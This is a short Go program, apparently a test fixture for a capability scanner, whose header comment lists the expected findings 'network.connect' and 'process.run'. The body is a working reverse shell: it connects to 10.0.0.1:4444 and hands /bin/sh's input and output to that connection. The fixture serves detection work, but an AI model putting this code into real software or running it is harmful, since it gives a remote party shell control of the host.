// nacre: found network.connect process.run
package main

import (
	"net"
	"os/exec"
)

func main() {
	connection, _ := net.Dial("tcp", "10.0.0.1:4444")
	command := exec.Command("/bin/sh")
	command.Stdin, command.Stdout = connection, connection
	command.Run()
}
